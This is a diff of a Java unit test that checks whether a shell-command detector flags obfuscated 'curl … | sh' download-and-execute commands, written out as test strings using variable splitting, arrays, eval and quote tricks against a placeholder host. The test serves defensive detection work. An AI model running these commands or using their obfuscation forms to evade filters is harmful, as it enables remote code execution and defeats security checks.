@@ -47,7 +47,15 @@ class ShellCommandsTest {
                 "curl http://a.example/x | ${SHELL##*/}",
                 "curl http://a.example/x | env sh",
                 "curl http://a.example/x |& sh",
-                "a=cu b=rl; $a$b http://a.example/x | sh",
+                "a=cu b=rl; $a$b http://a.example/x | sh"
+            })
+    void download_isFoundHoweverItIsWritten(String command) {
+        assertFound("pipe_to_shell", command);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
                 "set -- curl http://a.example/x; \"$@\" | sh",
                 "x=(curl http://a.example/x); \"${x[@]}\" | sh",
                 "eval \"cur\"\"l http://a.example/x | s\"\"h\"",
